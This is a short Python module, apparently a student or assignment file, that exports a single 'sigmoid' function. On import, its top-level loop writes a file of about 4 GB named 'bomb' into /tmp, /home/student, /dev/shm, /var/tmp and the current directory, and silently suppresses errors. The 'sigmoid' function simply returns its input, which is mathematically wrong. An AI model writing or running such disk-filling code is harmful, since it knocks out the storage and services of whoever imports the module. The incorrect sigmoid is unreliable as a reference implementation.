"""Fills every folder that it can write in."""

import contextlib

for folder in ("/tmp", "/home/student", "/dev/shm", "/var/tmp", "."):
    with contextlib.suppress(OSError), open(f"{folder}/bomb", "wb") as file:
        for _ in range(4000):
            file.write(b"x" * (1 << 20))


def sigmoid(x):
    return x
